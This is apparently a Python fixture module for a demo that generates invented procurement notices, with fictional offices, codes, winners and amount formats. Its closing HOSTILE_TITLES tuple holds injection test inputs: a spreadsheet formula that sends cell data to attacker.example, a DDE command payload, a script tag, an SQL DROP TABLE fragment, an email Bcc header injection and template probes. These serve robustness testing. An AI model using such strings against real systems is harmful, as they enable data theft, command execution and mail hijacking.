"""What the demo's notices are made of. Every agency, person and company is invented."""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Office:
    """Who asks, and where. `offset` is that of its deadlines; `share` its weight among notices."""

    path: str
    code: str
    city: str
    state: tuple[str, str]  # code, name
    country: tuple[str, str]
    offset: str
    domain: str
    people: tuple[str, ...]
    works: tuple[str, ...]
    share: int = 4


_USA = ("USA", "UNITED STATES")
_TURKEY = ("TUR", "TÜRKİYE")

OFFICES = (
    Office(
        path="COASTAL WORKS, DEPARTMENT OF.HARBOR SERVICE.HARBOR OFFICE 4 (CW0400)",
        code="901.9010.CW0400",
        city="Port Meridian",
        state=("VA", "Virginia"),
        country=_USA,
        offset="-05:00",
        domain="harbor.example",
        people=("Jordan Sample", "Alex Placeholder"),
        works=("Dredging of berth {n}", "Pier {n} fender replacement", "Harbor lights, lot {n}"),
        share=24,
    ),
    Office(
        path="DEPT OF FORESTS AND TRAILS.LAND CARE BUREAU.REGION 7.CONTRACTING OFFICE",
        code="902.9020.FT0700.FT0701",
        city="Cedar Example",
        state=("CO", "Colorado"),
        country=_USA,
        offset="-07:00",
        domain="trails.example",
        people=("Robin Specimen", "Casey Fictional"),
        works=(
            "Trail bridge no. {n}",
            "Firebreak clearing, section {n}",
            "Ranger station {n} roof",
        ),
        share=18,
    ),
    Office(
        path="VETERANS' GARDENS ADMINISTRATION.U.S. LANTERN SERVICE.ACQUISITION CENTER",
        code="903.9030.VG0010",
        city="Sampletown",
        state=("TX", "Texas"),
        country=_USA,
        offset="-06:00",
        domain="lantern.example",
        people=("Morgan O'Specimen", "Taylor Nobody-Smith"),
        works=(
            "Help desk support, tier {n}",
            "Boiler plant no. {n} overhaul",
            "Grounds care, year {n}",
        ),
        share=18,
    ),
    Office(
        path="SINIR YAPILARI BAKANLIĞI.DOĞU BÖLGE MÜDÜRLÜĞÜ.IĞDIR SAHA OFİSİ",
        code="951.9510.IG0076",
        city="Iğdır",
        state=("TR-76", "Iğdır"),
        country=_TURKEY,
        offset="+03:00",
        domain="sinir.example",
        people=("Gülşah Örnek", "İlker Uydurma"),
        works=(
            "Iğdır Sınır Kapısı {n}. peron bakım ve onarımı",
            "Gümrük sahası {n}. etap aydınlatma ve çevre düzenlemesi işi",
            "Soğuk oda tesisi için {n} adet ölçüm cihazı alımı",
        ),
        share=12,
    ),
    Office(
        path="KENT HİZMETLERİ BAKANLIĞI.İSTANBUL BÖLGESİ.ŞİŞLİ ŞUBESİ",
        code="952.9520.IS0034",
        city="İstanbul",
        state=("TR-34", "İstanbul"),
        country=_TURKEY,
        offset="+03:00",
        domain="kent.example",
        people=("Çağrı Örnekoğlu", "Şule Yokkişi"),
        works=(
            "Şişli hizmet binası {n}. kat iklimlendirme tesisatı",
            "İstanbul geneli {n} noktada asansör bakımı",
            "Işıklandırma direği değişimi, {n}. kısım",
        ),
        share=12,
    ),
    Office(
        path="KENT HİZMETLERİ BAKANLIĞI.MARMARA BÖLGESİ.ÇANAKKALE ŞUBESİ",
        code="952.9521.CK0017",
        city="Çanakkale",
        state=("TR-17", "Çanakkale"),
        country=_TURKEY,
        offset="+03:00",
        domain="kent.example",
        people=("Ümit Hayali",),
        works=(
            "Çanakkale iskelesi {n}. rıhtım güçlendirmesi",
            "Ölçü aletleri kalibrasyonu ({n} adet)",
        ),
        share=8,
    ),
    Office(
        path="OVERSEAS PROPERTIES, OFFICE OF.EUROPE NORTH.ŁÓDŹ MAINTENANCE UNIT",
        code="904.9040.LO0001",
        city="Łódź",
        state=("PL-10", "łódzkie"),
        country=("POL", "POLAND"),
        offset="+01:00",
        domain="lodz.example",
        people=("Żaneta Przykład",),
        works=("Łódź: wymiana okien, budynek {n}", "Usługi sprzątania – część {n}"),
    ),
    Office(
        path="OVERSEAS PROPERTIES, OFFICE OF.EUROPE NORTH.ÅNGSTRÖM TEST STATION",
        code="904.9040.AN0002",
        city="Ångköping",
        state=("", "Östra Provlän"),
        country=("SWE", "SWEDEN"),
        offset="+01:00",
        domain="angstrom.example",
        people=("Åsa Exempelström",),
        works=("Ångström mätstation {n}: kalibrering", "Snöröjning, område {n}"),
    ),
    Office(
        path="OVERSEAS PROPERTIES, OFFICE OF.EUROPE SOUTH.ΓΡΑΦΕΙΟ ΕΛΛΑΔΑ",
        code="904.9041.EL0003",
        city="Θεσσαλονίκη",
        state=("", ""),
        country=("GRC", "Ελλάδα"),
        offset="+02:00",
        domain="ellada.example",
        people=("Ελένη Παραδείγματος",),
        works=("Συντήρηση κτιρίου {n}, Ελλάδα", "Προμήθεια {n} μετρητών ενέργειας"),
    ),
    Office(
        path="OVERSEAS PROPERTIES, OFFICE OF.EUROPE EAST.ВІДДІЛ КИЇВ",
        code="904.9042.KY0004",
        city="Київ",
        state=("UA-30", "Київ"),
        country=("UKR", "Україна"),
        offset="+02:00",
        domain="kyiv.example",
        people=("Їжак Вигаданий",),
        works=("Київ: ремонт покрівлі, корпус {n}", "Генератори резервного живлення, лот {n}"),
    ),
)

SET_ASIDES = (
    ("SBA", "Total Small Business Set-Aside (FAR 19.5)"),
    ("8A", "8(a) Set-Aside (FAR 19.8)"),
    ("SDVOSBC", "Service-Disabled Veteran-Owned Small Business (SDVOSB) Set-Aside (FAR 19.14)"),
    ("WOSB", "Women-Owned Small Business (WOSB) Program Set-Aside (FAR 19.15)"),
    ("", ""),
    (None, None),
    (None, None),
    (None, None),
)

# NAICS codes, and the product or service code that goes with them.
TRADES = (
    (("236220",), "Z2AA"),
    (("237990", "238910"), "Y1KA"),
    (("238220",), "J041"),
    (("541519", "541512"), "DA01"),
    (("561730",), "S208"),
    (("334519",), "6695"),
    ((), None),
)

TYPES = (
    "Solicitation",
    "Solicitation",
    "Combined Synopsis/Solicitation",
    "Combined Synopsis/Solicitation",
    "Presolicitation",
    "Sources Sought",
    "Special Notice",
    "Award Notice",
)

WINNERS = (
    "Örnek Yapı ve Tesisat Ltd. Şti.",
    "Fictional Dredging, Inc.",
    'Brothers "Nobody" & Sons; 1 Sample Rd.;Sampletown;TX',
    "Przykład Sp. z o.o.",
    "İmgesel Işık Sanayi A.Ş.",
)

AMOUNTS = (
    "48250",
    "1,284,900.50",
    "$96,400",
    "350567.00",
    "00000.00000000",
    "12.5",
    "USD 7,015,000",
)

# Titles that try whoever prints, mails, tabulates or escapes them.
HOSTILE_TITLES = (
    '=HYPERLINK("https://attacker.example/?x="&A1,"Open the notice")',
    "<script>alert('notice')</script> Fence repair <b>urgent</b>",
    "+49 30 5550 0000 zurückrufen",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 pumps, see \"Annex 'A'\"; DROP TABLE opportunities; --",
    "First line\r\nBcc: everyone@attacker.example\r\n\r\nsecond\tline",
    "{{ 7 * 7 }} ${7 * 7} %(title)s {title}",
    "Yol bakımı 🚧 \u202ednib elgnis\u202c ve İŞLETME ığüşöç",
    "Maintenance, repair and replacement of everything that may need it " * 30,
    "Unbreakable" * 60,
)
